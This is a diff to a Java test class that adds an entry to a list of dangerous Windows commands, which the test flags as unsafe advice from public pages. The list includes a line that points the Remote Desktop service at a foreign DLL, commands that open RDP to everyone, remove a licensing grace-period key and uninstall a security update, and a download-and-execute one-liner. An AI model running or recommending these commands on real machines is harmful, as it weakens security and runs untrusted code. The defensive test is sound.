@@ -162,6 +162,7 @@ class SafeAdviceTest {
                 "Enable-NetFirewallRule -DisplayGroup 'Remote Desktop' @ everybody",
                 "Remove-Item 'HKLM:\\SYSTEM\\X\\RCM\\GracePeriod' @ grace period",
                 "wusa.exe /uninstall /kb:4103718 @ security updates",
+                "Set-ItemProperty HKLM:\\SYSTEM\\CurrentControlSet\\Services\\TermService\\Parameters ServiceDll C:\\x\\termsrv.dll @ foreign program files",
                 "iex (iwr https://example.com/fix.ps1) @ downloads",
             })
     void what_public_pages_advise_is_known_to_be_dangerous(String command, String name) {
